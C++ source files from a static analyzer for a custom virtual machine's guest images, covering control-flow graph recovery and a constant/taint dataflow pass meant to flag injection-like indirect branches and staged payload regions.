/// Builds the call graph for one image's CFG. Deterministic: same CFG,
/// same functions, same SCC order.
CallGraph build_callgraph(const Cfg& cfg);

}  // namespace faros::sa
