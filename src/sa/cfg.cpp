#include "sa/cfg.h"

#include <algorithm>
#include <set>

namespace faros::sa {

const char* edge_kind_name(EdgeKind k) {
  switch (k) {
    case EdgeKind::kFall: return "fall";
    case EdgeKind::kTaken: return "taken";
    case EdgeKind::kCall: return "call";
    case EdgeKind::kIndirect: return "indirect";
  }
  return "?";
}

const BasicBlock* Cfg::block_containing(u32 va) const {
  auto it = blocks.upper_bound(va);
  if (it == blocks.begin()) return nullptr;
  --it;
  const BasicBlock& b = it->second;
  return (va >= b.start && va < b.end) ? &b : nullptr;
}

namespace {

/// Builder state for one recovery run.
struct Recovery {
  const os::Image& img;
  Cfg cfg;
  std::set<u32> pending;       // block starts awaiting decode
  std::set<u32> invalid_set;   // dedup for invalid_sites
  std::set<u32> escaped_set;   // dedup for escaping_targets

  explicit Recovery(const os::Image& image) : img(image) {
    cfg.base = img.base_va;
    cfg.size = static_cast<u32>(img.blob.size());
    cfg.entry = img.entry_va();
  }

  bool aligned(u32 va) const { return (va - cfg.base) % vm::kInsnSize == 0; }

  void note_invalid(u32 va) {
    if (invalid_set.insert(va).second) cfg.invalid_sites.push_back(va);
  }

  void note_escape(u32 va) {
    if (escaped_set.insert(va).second) cfg.escaping_targets.push_back(va);
  }

  /// Queues `va` as a block start if it is a plausible code address;
  /// otherwise records why it was rejected.
  void add_root(u32 va) {
    if (!cfg.contains(va)) {
      note_escape(va);
      return;
    }
    if (!aligned(va)) {
      note_invalid(va);
      return;
    }
    pending.insert(va);
  }

  /// Splits the block containing `va` so a block starts exactly at `va`.
  /// Returns false if `va` is not a clean instruction boundary inside an
  /// existing block.
  bool split_at(u32 va) {
    auto it = cfg.blocks.upper_bound(va);
    if (it == cfg.blocks.begin()) return false;
    --it;
    BasicBlock& head = it->second;
    if (va <= head.start || va >= head.end) return false;
    size_t keep = (va - head.start) / vm::kInsnSize;
    BasicBlock tail;
    tail.start = va;
    tail.end = head.end;
    tail.insns.assign(head.insns.begin() + static_cast<long>(keep),
                      head.insns.end());
    tail.succs = std::move(head.succs);
    head.insns.resize(keep);
    head.end = va;
    head.succs = {Edge{va, EdgeKind::kFall}};
    cfg.blocks.emplace(va, std::move(tail));
    return true;
  }

  void decode_block(u32 start, const std::map<u32, u32>& resolved) {
    if (cfg.blocks.count(start)) return;
    if (split_at(start)) return;
    BasicBlock blk;
    blk.start = start;
    u32 va = start;
    for (;;) {
      if (va != start && cfg.blocks.count(va)) {
        // Ran into an existing block: end with a fall edge into it.
        blk.succs.push_back(Edge{va, EdgeKind::kFall});
        break;
      }
      u32 off = va - cfg.base;
      if (off + vm::kInsnSize > cfg.size) {
        // Decoding ran off the end of the blob.
        note_invalid(va);
        break;
      }
      auto insn = vm::decode(
          ByteSpan(img.blob.data() + off, vm::kInsnSize));
      if (!insn) {
        note_invalid(va);
        break;
      }
      blk.insns.push_back(*insn);
      u32 next = va + vm::kInsnSize;
      if (!vm::ends_block(insn->op)) {
        va = next;
        continue;
      }
      // Terminator: attach successor edges.
      switch (insn->op) {
        case vm::Opcode::kJmp:
          add_edge(blk, *vm::direct_target(*insn, va), EdgeKind::kTaken);
          break;
        case vm::Opcode::kBeq:
        case vm::Opcode::kBne:
        case vm::Opcode::kBlt:
        case vm::Opcode::kBge:
        case vm::Opcode::kBltu:
        case vm::Opcode::kBgeu:
          add_edge(blk, *vm::direct_target(*insn, va), EdgeKind::kTaken);
          add_edge(blk, next, EdgeKind::kFall);
          break;
        case vm::Opcode::kCall:
          add_edge(blk, *vm::direct_target(*insn, va), EdgeKind::kCall);
          add_edge(blk, next, EdgeKind::kFall);
          break;
        case vm::Opcode::kJr:
        case vm::Opcode::kCallr: {
          IndirectSite site{va, insn->op, false, 0};
          auto res = resolved.find(va);
          if (res != resolved.end()) {
            site.resolved = true;
            site.target = res->second;
            add_edge(blk, res->second,
                     insn->op == vm::Opcode::kCallr ? EdgeKind::kCall
                                                    : EdgeKind::kIndirect);
          }
          cfg.indirects.push_back(site);
          if (insn->op == vm::Opcode::kCallr) {
            add_edge(blk, next, EdgeKind::kFall);
          }
          break;
        }
        case vm::Opcode::kSyscall:
        case vm::Opcode::kBrk:
          // Both return to the next instruction (brk delivers a trap the
          // kernel may survive).
          add_edge(blk, next, EdgeKind::kFall);
          break;
        case vm::Opcode::kRet:
        case vm::Opcode::kHalt:
        default:
          break;  // no static successors
      }
      break;
    }
    blk.end = blk.start + static_cast<u32>(blk.insns.size()) * vm::kInsnSize;
    if (blk.insns.empty()) return;  // first byte undecodable: nothing to keep
    cfg.blocks.emplace(blk.start, std::move(blk));
  }

  void add_edge(BasicBlock& blk, u32 target, EdgeKind kind) {
    if (!cfg.contains(target)) {
      note_escape(target);
      return;
    }
    if (!aligned(target)) {
      note_invalid(target);
      return;
    }
    blk.succs.push_back(Edge{target, kind});
    pending.insert(target);
  }

  /// Linear sweep over bytes no block covers: record maximal decodable runs
  /// as dead-code candidates.
  void sweep() {
    u32 va = cfg.base;
    const u32 limit = cfg.base + cfg.size;
    DeadRegion run;
    auto flush = [&] {
      if (run.insns > 0) cfg.dead_regions.push_back(run);
      run = DeadRegion{};
    };
    while (va + vm::kInsnSize <= limit) {
      if (const BasicBlock* b = cfg.block_containing(va)) {
        flush();
        va = b->end;
        continue;
      }
      auto insn =
          vm::decode(ByteSpan(img.blob.data() + (va - cfg.base),
                              vm::kInsnSize));
      if (!insn) {
        flush();
        va += vm::kInsnSize;
        continue;
      }
      if (run.insns == 0) run.start = va;
      ++run.insns;
      if (insn->op != vm::Opcode::kNop) ++run.non_nop;
      if (vm::ends_block(insn->op)) run.has_terminator = true;
      va += vm::kInsnSize;
    }
    flush();
  }
};

}  // namespace

Cfg recover_cfg(const os::Image& img,
                const std::map<u32, u32>& resolved_indirects) {
  Recovery rec(img);
  if (rec.cfg.size >= vm::kInsnSize) {
    rec.add_root(img.entry_va());
    for (const auto& exp : img.exports) {
      u32 va = img.base_va + exp.offset;
      rec.add_root(va);
      if (rec.cfg.contains(va) && rec.aligned(va)) {
        rec.cfg.export_vas.push_back(va);
      }
    }
    for (const auto& [site, target] : resolved_indirects) {
      (void)site;
      rec.add_root(target);
    }
    while (!rec.pending.empty()) {
      u32 va = *rec.pending.begin();
      rec.pending.erase(rec.pending.begin());
      rec.decode_block(va, resolved_indirects);
    }
    rec.sweep();
  }
  std::sort(rec.cfg.indirects.begin(), rec.cfg.indirects.end(),
            [](const IndirectSite& a, const IndirectSite& b) {
              return a.va < b.va;
            });
  std::sort(rec.cfg.invalid_sites.begin(), rec.cfg.invalid_sites.end());
  std::sort(rec.cfg.escaping_targets.begin(), rec.cfg.escaping_targets.end());
  std::sort(rec.cfg.export_vas.begin(), rec.cfg.export_vas.end());
  rec.cfg.export_vas.erase(
      std::unique(rec.cfg.export_vas.begin(), rec.cfg.export_vas.end()),
      rec.cfg.export_vas.end());
  for (const auto& [start, blk] : rec.cfg.blocks) {
    (void)start;
    rec.cfg.insn_count += static_cast<u32>(blk.insns.size());
  }
  return rec.cfg;
}

}  // namespace faros::sa
