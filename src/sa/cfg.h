// Static CFG recovery for FV32 guest images — the zero-execution front end
// of the analyzer (src/sa). Reuses the src/vm decoder so the static view
// can never disagree with the interpreter about instruction boundaries or
// branch targets.
//
// Recovery is recursive descent from the image entry point and every export
// (both are externally reachable), plus any indirect-branch targets the
// dataflow pass has already resolved; a linear sweep over the bytes no
// recovered block covers then yields dead/unreachable code candidates —
// including embedded payload blobs that only ever run after an injection
// copies them somewhere executable.
#pragma once

#include <map>
#include <vector>

#include "os/image.h"
#include "vm/isa.h"

namespace faros::sa {

enum class EdgeKind : u8 {
  kFall = 0,  // sequential successor (incl. past calls/syscalls)
  kTaken,     // direct jump / taken conditional branch
  kCall,      // call target (kCall, or a resolved kCallr)
  kIndirect,  // resolved kJr target
};

const char* edge_kind_name(EdgeKind k);

struct Edge {
  u32 target = 0;  // successor block start va
  EdgeKind kind = EdgeKind::kFall;
  bool operator==(const Edge&) const = default;
};

struct BasicBlock {
  u32 start = 0;  // va of the first instruction
  u32 end = 0;    // va one past the last instruction
  std::vector<vm::Instruction> insns;
  std::vector<Edge> succs;

  u32 insn_va(size_t i) const {
    return start + static_cast<u32>(i) * vm::kInsnSize;
  }
  const vm::Instruction& terminator() const { return insns.back(); }
};

/// One kJr/kCallr site. Unresolved sites are the static blind spot every
/// injection-shaped rule keys on.
struct IndirectSite {
  u32 va = 0;
  vm::Opcode op = vm::Opcode::kJr;
  bool resolved = false;
  u32 target = 0;  // valid when resolved
};

/// A maximal run of decodable instructions that no recovered block covers
/// (linear-sweep phase): dead code, or a payload staged as data.
struct DeadRegion {
  u32 start = 0;           // va
  u32 insns = 0;           // valid decodes in the run
  u32 non_nop = 0;         // decodes that are not kNop
  bool has_terminator = false;  // run contains a block-ending opcode
};

struct Cfg {
  u32 base = 0;   // image base va
  u32 size = 0;   // blob size in bytes
  u32 entry = 0;  // entry va
  /// Reachable blocks, keyed by start va. Every block here was reached by
  /// descent from a root (entry, export, or resolved indirect target).
  std::map<u32, BasicBlock> blocks;
  std::vector<IndirectSite> indirects;   // ascending va
  std::vector<u32> invalid_sites;        // descent hit an undecodable insn
  std::vector<u32> escaping_targets;     // direct targets outside the blob
  std::vector<DeadRegion> dead_regions;  // ascending start va
  /// Export entry points accepted as descent roots (ascending, unique).
  /// Externally callable: the dataflow keeps them at the all-kVaries
  /// boundary even when they also have internal call sites.
  std::vector<u32> export_vas;
  u32 insn_count = 0;                    // instructions across all blocks

  bool contains(u32 va) const { return va >= base && va - base < size; }
  /// Block whose [start, end) covers `va`, or null.
  const BasicBlock* block_containing(u32 va) const;
  /// True when `va` lies inside a recovered (reachable) block.
  bool in_code(u32 va) const { return block_containing(va) != nullptr; }
};

/// Recovers the CFG. `resolved_indirects` maps a kJr/kCallr site va to its
/// proven target (fed back from the dataflow pass); those targets become
/// edges and descent roots.
Cfg recover_cfg(const os::Image& img,
                const std::map<u32, u32>& resolved_indirects = {});

}  // namespace faros::sa
