#include "sa/dataflow.h"

#include <set>

namespace faros::sa {

AbsVal join(const AbsVal& a, const AbsVal& b) {
  if (a.kind == ValKind::kUnknown) {
    AbsVal r = b;
    r.from_load = a.from_load || b.from_load;
    return r;
  }
  if (b.kind == ValKind::kUnknown) {
    AbsVal r = a;
    r.from_load = a.from_load || b.from_load;
    return r;
  }
  bool loaded = a.from_load || b.from_load;
  if (a.kind == ValKind::kConst && b.kind == ValKind::kConst && a.c == b.c) {
    return AbsVal::konst(a.c, loaded);
  }
  return AbsVal::varies(loaded);
}

namespace {

using vm::Opcode;

/// Folds rd = a op b when both are constants; otherwise kVaries. The
/// from_load bit is inherited from either operand.
AbsVal fold(Opcode op, const AbsVal& a, const AbsVal& b) {
  bool loaded = a.from_load || b.from_load;
  if (a.kind != ValKind::kConst || b.kind != ValKind::kConst) {
    return AbsVal::varies(loaded);
  }
  u32 x = a.c, y = b.c;
  switch (op) {
    case Opcode::kAdd:
    case Opcode::kAddi: return AbsVal::konst(x + y, loaded);
    case Opcode::kSub:
    case Opcode::kSubi: return AbsVal::konst(x - y, loaded);
    case Opcode::kMul:
    case Opcode::kMuli: return AbsVal::konst(x * y, loaded);
    case Opcode::kDivu: return y ? AbsVal::konst(x / y, loaded)
                                 : AbsVal::varies(loaded);  // traps at runtime
    case Opcode::kAnd:
    case Opcode::kAndi: return AbsVal::konst(x & y, loaded);
    case Opcode::kOr:
    case Opcode::kOri: return AbsVal::konst(x | y, loaded);
    case Opcode::kXor:
    case Opcode::kXori: return AbsVal::konst(x ^ y, loaded);
    case Opcode::kShl:
    case Opcode::kShli: return AbsVal::konst(x << (y & 31), loaded);
    case Opcode::kShr:
    case Opcode::kShri: return AbsVal::konst(x >> (y & 31), loaded);
    default: return AbsVal::varies(loaded);
  }
}

}  // namespace

void transfer(const vm::Instruction& insn, u32 va, RegState& st) {
  auto& r = st.regs;
  const u32 next = va + vm::kInsnSize;
  switch (insn.op) {
    case Opcode::kMovi: r[insn.rd] = AbsVal::konst(insn.imm); break;
    case Opcode::kMov: r[insn.rd] = r[insn.rs1]; break;
    case Opcode::kAddPc: r[insn.rd] = AbsVal::konst(next + insn.imm); break;

    case Opcode::kLd8:
    case Opcode::kLd16:
    case Opcode::kLd32: r[insn.rd] = AbsVal::varies(true); break;

    case Opcode::kAdd:
    case Opcode::kSub:
    case Opcode::kMul:
    case Opcode::kDivu:
    case Opcode::kAnd:
    case Opcode::kOr:
    case Opcode::kXor:
    case Opcode::kShl:
    case Opcode::kShr:
      if ((insn.op == Opcode::kXor || insn.op == Opcode::kSub) &&
          insn.rs1 == insn.rs2) {
        r[insn.rd] = AbsVal::konst(0);  // the idiomatic register clear
      } else {
        r[insn.rd] = fold(insn.op, r[insn.rs1], r[insn.rs2]);
      }
      break;

    case Opcode::kAddi:
    case Opcode::kSubi:
    case Opcode::kMuli:
    case Opcode::kAndi:
    case Opcode::kOri:
    case Opcode::kXori:
    case Opcode::kShli:
    case Opcode::kShri:
      r[insn.rd] = fold(insn.op, r[insn.rs1], AbsVal::konst(insn.imm));
      break;

    case Opcode::kPush:
      r[vm::SP] = fold(Opcode::kSubi, r[vm::SP], AbsVal::konst(4));
      break;
    case Opcode::kPop:
      r[insn.rd] = AbsVal::varies(true);
      if (insn.rd != vm::SP) {
        r[vm::SP] = fold(Opcode::kAddi, r[vm::SP], AbsVal::konst(4));
      }
      break;

    case Opcode::kCall:
    case Opcode::kCallr: r[vm::LR] = AbsVal::konst(next); break;

    // Syscall results (handles, alloc bases, recv lengths) are as
    // runtime-derived as loaded bytes — both carry the from_load mark so
    // the rules can spot control flow through kernel-produced values.
    case Opcode::kSyscall: r[vm::R0] = AbsVal::varies(true); break;

    case Opcode::kNop:
    case Opcode::kHalt:
    case Opcode::kSt8:
    case Opcode::kSt16:
    case Opcode::kSt32:
    case Opcode::kCmp:
    case Opcode::kCmpi:
    case Opcode::kJmp:
    case Opcode::kJr:
    case Opcode::kBeq:
    case Opcode::kBne:
    case Opcode::kBlt:
    case Opcode::kBge:
    case Opcode::kBltu:
    case Opcode::kBgeu:
    case Opcode::kRet:
    case Opcode::kBrk:
      break;  // no register effects
  }
}

DataflowResult run_dataflow(const Cfg& cfg) {
  DataflowResult res;
  if (cfg.blocks.empty()) return res;

  // Every block start that is a descent root gets the all-kVaries boundary
  // state: the entry, every export, and every resolved indirect target
  // (recover_cfg queued exactly these plus branch targets; re-deriving the
  // root set here keeps the two passes decoupled).
  std::set<u32> roots;
  if (cfg.blocks.count(cfg.entry)) roots.insert(cfg.entry);
  for (const auto& site : cfg.indirects) {
    if (site.resolved && cfg.blocks.count(site.target)) {
      roots.insert(site.target);
    }
  }
  // Exports are only knowable from the image; recover_cfg rooted them, and
  // any block with no intra-image predecessor must be such a root.
  std::set<u32> has_pred;
  for (const auto& [start, blk] : cfg.blocks) {
    (void)start;
    for (const Edge& e : blk.succs) has_pred.insert(e.target);
  }
  for (const auto& [start, blk] : cfg.blocks) {
    (void)blk;
    if (!has_pred.count(start)) roots.insert(start);
  }

  for (const auto& [start, blk] : cfg.blocks) {
    (void)blk;
    res.block_in[start] = RegState{};  // all kUnknown
  }
  for (u32 root : roots) res.block_in[root] = RegState::all_varies();

  std::set<u32> worklist;
  for (const auto& [start, blk] : cfg.blocks) {
    (void)blk;
    worklist.insert(start);
  }

  while (!worklist.empty()) {
    u32 start = *worklist.begin();
    worklist.erase(worklist.begin());
    const BasicBlock& blk = cfg.blocks.at(start);
    ++res.iterations;

    RegState st = res.block_in.at(start);
    for (size_t i = 0; i < blk.insns.size(); ++i) {
      const vm::Instruction& insn = blk.insns[i];
      u32 va = blk.insn_va(i);
      if (vm::is_load(insn.op) || vm::is_store(insn.op)) {
        u8 base = (insn.op == Opcode::kPush || insn.op == Opcode::kPop)
                      ? static_cast<u8>(vm::SP)
                      : insn.rs1;
        res.mem_base_value[va] = st.regs[base];
      }
      if (vm::is_indirect_branch(insn.op)) {
        res.indirect_value[va] = st.regs[insn.rs1];
      }
      transfer(insn, va, st);
    }

    // A call terminator clobbers everything along every outgoing edge: the
    // callee's register effects are unknown, and its own entry assumes
    // nothing either.
    RegState out = st;
    if (!blk.insns.empty() && vm::is_call(blk.terminator().op)) {
      out = RegState::all_varies();
    }
    for (const Edge& e : blk.succs) {
      auto it = res.block_in.find(e.target);
      if (it == res.block_in.end()) continue;
      RegState merged;
      for (u32 i = 0; i < vm::kNumRegs; ++i) {
        merged.regs[i] = join(it->second.regs[i], out.regs[i]);
      }
      if (!(merged == it->second)) {
        it->second = merged;
        worklist.insert(e.target);
      }
    }
  }
  return res;
}

}  // namespace faros::sa
