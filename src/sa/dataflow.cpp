#include "sa/dataflow.h"

#include <set>

namespace faros::sa {

namespace {

/// Origin merge for two values flowing into one: a shared single def site
/// survives, disagreement (or a value with no site) collapses to 0.
u32 merge_origin(u32 a, u32 b) {
  if (a == b) return a;
  if (a == 0) return b;
  if (b == 0) return a;
  return 0;
}

}  // namespace

AbsVal join(const AbsVal& a, const AbsVal& b) {
  if (a.kind == ValKind::kUnknown) {
    AbsVal r = b;
    r.from_load = a.from_load || b.from_load;
    return r;
  }
  if (b.kind == ValKind::kUnknown) {
    AbsVal r = a;
    r.from_load = a.from_load || b.from_load;
    return r;
  }
  bool loaded = a.from_load || b.from_load;
  if (a.kind == ValKind::kConst && b.kind == ValKind::kConst && a.c == b.c) {
    return AbsVal::konst(a.c, loaded);
  }
  return AbsVal::varies(loaded, a.origin == b.origin ? a.origin : 0);
}

AbsVal fold_const(vm::Opcode op, const AbsVal& a, const AbsVal& b) {
  using vm::Opcode;
  bool loaded = a.from_load || b.from_load;
  if (a.kind != ValKind::kConst || b.kind != ValKind::kConst) {
    // Arithmetic against a constant (or an origin-free unknown, like a
    // loop counter) keeps the single def site: "alloc base + i" still
    // points at the allocating syscall.
    return AbsVal::varies(loaded, merge_origin(a.origin, b.origin));
  }
  u32 x = a.c, y = b.c;
  switch (op) {
    case Opcode::kAdd:
    case Opcode::kAddi: return AbsVal::konst(x + y, loaded);
    case Opcode::kSub:
    case Opcode::kSubi: return AbsVal::konst(x - y, loaded);
    case Opcode::kMul:
    case Opcode::kMuli: return AbsVal::konst(x * y, loaded);
    case Opcode::kDivu: return y ? AbsVal::konst(x / y, loaded)
                                 : AbsVal::varies(loaded);  // traps at runtime
    case Opcode::kAnd:
    case Opcode::kAndi: return AbsVal::konst(x & y, loaded);
    case Opcode::kOr:
    case Opcode::kOri: return AbsVal::konst(x | y, loaded);
    case Opcode::kXor:
    case Opcode::kXori: return AbsVal::konst(x ^ y, loaded);
    case Opcode::kShl:
    case Opcode::kShli: return AbsVal::konst(x << (y & 31), loaded);
    case Opcode::kShr:
    case Opcode::kShri: return AbsVal::konst(x >> (y & 31), loaded);
    default: return AbsVal::varies(loaded);
  }
}

void transfer(const vm::Instruction& insn, u32 va, RegState& st) {
  using vm::Opcode;
  auto& r = st.regs;
  const u32 next = va + vm::kInsnSize;
  switch (insn.op) {
    case Opcode::kMovi: r[insn.rd] = AbsVal::konst(insn.imm); break;
    case Opcode::kMov: r[insn.rd] = r[insn.rs1]; break;
    case Opcode::kAddPc: r[insn.rd] = AbsVal::konst(next + insn.imm); break;

    case Opcode::kLd8:
    case Opcode::kLd16:
    case Opcode::kLd32: r[insn.rd] = AbsVal::varies(true, va); break;

    case Opcode::kAdd:
    case Opcode::kSub:
    case Opcode::kMul:
    case Opcode::kDivu:
    case Opcode::kAnd:
    case Opcode::kOr:
    case Opcode::kXor:
    case Opcode::kShl:
    case Opcode::kShr:
      if ((insn.op == Opcode::kXor || insn.op == Opcode::kSub) &&
          insn.rs1 == insn.rs2) {
        r[insn.rd] = AbsVal::konst(0);  // the idiomatic register clear
      } else {
        r[insn.rd] = fold_const(insn.op, r[insn.rs1], r[insn.rs2]);
      }
      break;

    case Opcode::kAddi:
    case Opcode::kSubi:
    case Opcode::kMuli:
    case Opcode::kAndi:
    case Opcode::kOri:
    case Opcode::kXori:
    case Opcode::kShli:
    case Opcode::kShri:
      r[insn.rd] = fold_const(insn.op, r[insn.rs1], AbsVal::konst(insn.imm));
      break;

    case Opcode::kPush:
      r[vm::SP] = fold_const(Opcode::kSubi, r[vm::SP], AbsVal::konst(4));
      break;
    case Opcode::kPop:
      r[insn.rd] = AbsVal::varies(true, va);
      if (insn.rd != vm::SP) {
        r[vm::SP] = fold_const(Opcode::kAddi, r[vm::SP], AbsVal::konst(4));
      }
      break;

    case Opcode::kCall:
    case Opcode::kCallr: r[vm::LR] = AbsVal::konst(next); break;

    // Syscall results (handles, alloc bases, recv lengths) are as
    // runtime-derived as loaded bytes — both carry the from_load mark so
    // the rules can spot control flow through kernel-produced values.
    case Opcode::kSyscall: r[vm::R0] = AbsVal::varies(true, va); break;

    case Opcode::kNop:
    case Opcode::kHalt:
    case Opcode::kSt8:
    case Opcode::kSt16:
    case Opcode::kSt32:
    case Opcode::kCmp:
    case Opcode::kCmpi:
    case Opcode::kJmp:
    case Opcode::kJr:
    case Opcode::kBeq:
    case Opcode::kBne:
    case Opcode::kBlt:
    case Opcode::kBge:
    case Opcode::kBltu:
    case Opcode::kBgeu:
    case Opcode::kRet:
    case Opcode::kBrk:
      break;  // no register effects
  }
}

DataflowResult run_dataflow(const Cfg& cfg, const CallModel* model) {
  using vm::Opcode;
  DataflowResult res;
  if (cfg.blocks.empty()) return res;

  // Every block start that is a descent root gets the all-kVaries boundary
  // state: the entry, every export, and every resolved indirect target
  // (recover_cfg queued exactly these plus branch targets; re-deriving the
  // root set here keeps the two passes decoupled).
  std::set<u32> roots;
  if (cfg.blocks.count(cfg.entry)) roots.insert(cfg.entry);
  for (const auto& site : cfg.indirects) {
    if (site.resolved && cfg.blocks.count(site.target)) {
      roots.insert(site.target);
    }
  }
  // Exports are externally callable no matter how many internal call sites
  // they have; any block with no intra-image predecessor must also be an
  // external root.
  for (u32 va : cfg.export_vas) {
    if (cfg.blocks.count(va)) roots.insert(va);
  }
  std::set<u32> has_pred;
  for (const auto& [start, blk] : cfg.blocks) {
    (void)start;
    for (const Edge& e : blk.succs) has_pred.insert(e.target);
  }
  for (const auto& [start, blk] : cfg.blocks) {
    (void)blk;
    if (!has_pred.count(start)) roots.insert(start);
  }

  for (const auto& [start, blk] : cfg.blocks) {
    (void)blk;
    res.block_in[start] = RegState{};  // all kUnknown
  }
  for (u32 root : roots) res.block_in[root] = RegState::all_varies();

  std::set<u32> worklist;
  for (const auto& [start, blk] : cfg.blocks) {
    (void)blk;
    worklist.insert(start);
  }

  while (!worklist.empty()) {
    u32 start = *worklist.begin();
    worklist.erase(worklist.begin());
    const BasicBlock& blk = cfg.blocks.at(start);
    ++res.iterations;

    RegState st = res.block_in.at(start);
    for (size_t i = 0; i < blk.insns.size(); ++i) {
      const vm::Instruction& insn = blk.insns[i];
      u32 va = blk.insn_va(i);
      if (vm::is_load(insn.op) || vm::is_store(insn.op)) {
        u8 base = (insn.op == Opcode::kPush || insn.op == Opcode::kPop)
                      ? static_cast<u8>(vm::SP)
                      : insn.rs1;
        res.mem_base_value[va] = st.regs[base];
      }
      if (vm::is_store(insn.op)) {
        u8 src = insn.op == Opcode::kPush ? insn.rs1 : insn.rs2;
        res.store_value[va] = st.regs[src];
      }
      if (insn.op == Opcode::kSyscall) {
        auto& args = res.syscall_args[va];
        for (u32 j = 0; j < 5; ++j) args[j] = st.regs[j];
      }
      if (vm::is_indirect_branch(insn.op)) {
        res.indirect_value[va] = st.regs[insn.rs1];
      }
      transfer(insn, va, st);
    }

    // Call-terminator edge semantics. Without a model, a call clobbers
    // everything along every outgoing edge (callee effects unknown, callee
    // entry assumes nothing). With a model, the kCall edge carries the
    // caller's state into the callee and the fall edge carries whatever
    // the model says comes back — possibly nothing at all.
    RegState out = st;
    RegState callee_in = st;
    bool fall_reachable = true;
    bool call_term = !blk.insns.empty() && vm::is_call(blk.terminator().op);
    if (call_term) {
      if (!model) {
        out = RegState::all_varies();
        callee_in = out;
      } else {
        u32 site_va = blk.insn_va(blk.insns.size() - 1);
        const vm::Instruction& term = blk.terminator();
        bool has_target = false;
        u32 target = 0;
        if (term.op == Opcode::kCall) {
          if (auto t = vm::direct_target(term, site_va)) {
            has_target = true;
            target = *t;
          }
        } else {
          for (const IndirectSite& s : cfg.indirects) {
            if (s.va == site_va && s.resolved) {
              has_target = true;
              target = s.target;
              break;
            }
          }
        }
        fall_reachable = model->call_out(site_va, has_target, target, st, out);
      }
    }
    for (const Edge& e : blk.succs) {
      if (call_term && e.kind != EdgeKind::kCall && !fall_reachable) continue;
      const RegState& eout =
          call_term && e.kind == EdgeKind::kCall ? callee_in : out;
      auto it = res.block_in.find(e.target);
      if (it == res.block_in.end()) continue;
      RegState merged;
      for (u32 i = 0; i < vm::kNumRegs; ++i) {
        merged.regs[i] = join(it->second.regs[i], eout.regs[i]);
      }
      if (!(merged == it->second)) {
        it->second = merged;
        worklist.insert(e.target);
      }
    }
  }
  return res;
}

}  // namespace faros::sa
