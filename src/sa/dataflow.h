// Forward dataflow over the recovered CFG: a per-register constant /
// taint-shape lattice propagated by a worklist. Its one job is to prove
// things about indirect control flow and store targets before any
// instruction executes — resolve kMovi/kAddPc-fed kJr/kCallr sites, and
// tell the rules whether a branch register or store address is a known
// constant, an unknown, or something derived from memory or a syscall
// result (the classic "loaded pointer" shape every injection loader
// exhibits).
//
// Lattice per register: kUnknown (bottom, never written on this path) ->
// kConst(c) -> kVaries (top), plus a monotone from_load bit that survives
// copies and arithmetic. Constant folding mirrors src/vm/cpu.cpp exactly
// (u32 wrap, shift masking) so a "resolved" target is the address the
// interpreter would really jump to.
#pragma once

#include <array>
#include <map>

#include "sa/cfg.h"

namespace faros::sa {

enum class ValKind : u8 {
  kUnknown = 0,  // lattice bottom: no path has defined the register yet
  kConst,        // known 32-bit constant
  kVaries,       // lattice top: runtime-dependent
};

struct AbsVal {
  ValKind kind = ValKind::kUnknown;
  u32 c = 0;               // valid when kind == kConst
  // (Transitively) derived from a memory load or a syscall result — a
  // value that only exists at runtime. The static mirror of a taint mark.
  bool from_load = false;
  // Definition site of a runtime-derived value: the va of the single
  // load / pop / syscall that produced it (0 = none, or merged from
  // distinct sites). Survives copies and arithmetic against values with
  // no origin of their own, so "alloc base + loop counter" still points
  // at the allocating syscall — the static analogue of a provenance tag.
  u32 origin = 0;

  bool operator==(const AbsVal&) const = default;

  static AbsVal konst(u32 v, bool loaded = false) {
    return AbsVal{ValKind::kConst, v, loaded, 0};
  }
  static AbsVal varies(bool loaded = false, u32 origin = 0) {
    return AbsVal{ValKind::kVaries, 0, loaded, origin};
  }
};

/// Lattice join (path merge).
AbsVal join(const AbsVal& a, const AbsVal& b);

struct RegState {
  std::array<AbsVal, vm::kNumRegs> regs{};
  bool operator==(const RegState&) const = default;

  static RegState all_varies() {
    RegState s;
    s.regs.fill(AbsVal::varies());
    return s;
  }
};

/// Abstract-interprets one instruction at `va` over `st` in place.
/// Control-flow side effects (call clobbering) are edge semantics and live
/// in run_dataflow, not here.
void transfer(const vm::Instruction& insn, u32 va, RegState& st);

/// Constant folding of rd = a op b, shared with the summary layer; mirrors
/// cpu.cpp exactly (u32 wrap, 5-bit shift masks, divu-by-zero traps).
AbsVal fold_const(vm::Opcode op, const AbsVal& a, const AbsVal& b);

/// Models the register effects of a call terminator. run_dataflow without
/// a model keeps the historical semantics: every outgoing edge of a call
/// block is clobbered to all-kVaries. With a model, the kCall edge carries
/// the caller's state into the callee and the fall-through edge carries
/// whatever `call_out` produces — the hook the interprocedural summary
/// layer (sa/summary.h) plugs into.
class CallModel {
 public:
  virtual ~CallModel() = default;
  /// Fills `out` with the register state after the call at `site_va`
  /// returns. `target` is valid when `has_target` (direct call, or a
  /// resolved kCallr). Returns false when the callee provably never
  /// returns — the fall-through edge is then unreachable. The default is
  /// the sound fallback: clobber everything, always returns.
  virtual bool call_out(u32 site_va, bool has_target, u32 target,
                        const RegState& at_call, RegState& out) const {
    (void)site_va;
    (void)has_target;
    (void)target;
    (void)at_call;
    out = RegState::all_varies();
    return true;
  }
};

struct DataflowResult {
  /// Converged in-state per block (keyed by block start va).
  std::map<u32, RegState> block_in;
  /// Abstract value of rs1 at each kJr/kCallr site, keyed by site va.
  std::map<u32, AbsVal> indirect_value;
  /// Abstract base-register value at each load/store site, keyed by va.
  std::map<u32, AbsVal> mem_base_value;
  /// Abstract value being stored at each store site (st*: rs2, push: rs1).
  std::map<u32, AbsVal> store_value;
  /// Pre-state of R0..R4 (service number + args) at each kSyscall site.
  std::map<u32, std::array<AbsVal, 5>> syscall_args;
  u32 iterations = 0;  // block visits until the fixpoint
};

/// Worklist fixpoint over `cfg`. Roots (entry, exports, resolved indirect
/// targets) start all-kVaries. Call terminators are modelled by `model`;
/// null keeps the historical clobber-all-edges semantics.
DataflowResult run_dataflow(const Cfg& cfg, const CallModel* model = nullptr);

}  // namespace faros::sa
