// Forward dataflow over the recovered CFG: a per-register constant /
// taint-shape lattice propagated by a worklist. Its one job is to prove
// things about indirect control flow and store targets before any
// instruction executes — resolve kMovi/kAddPc-fed kJr/kCallr sites, and
// tell the rules whether a branch register or store address is a known
// constant, an unknown, or something derived from memory or a syscall
// result (the classic "loaded pointer" shape every injection loader
// exhibits).
//
// Lattice per register: kUnknown (bottom, never written on this path) ->
// kConst(c) -> kVaries (top), plus a monotone from_load bit that survives
// copies and arithmetic. Constant folding mirrors src/vm/cpu.cpp exactly
// (u32 wrap, shift masking) so a "resolved" target is the address the
// interpreter would really jump to.
#pragma once

#include <array>
#include <map>

#include "sa/cfg.h"

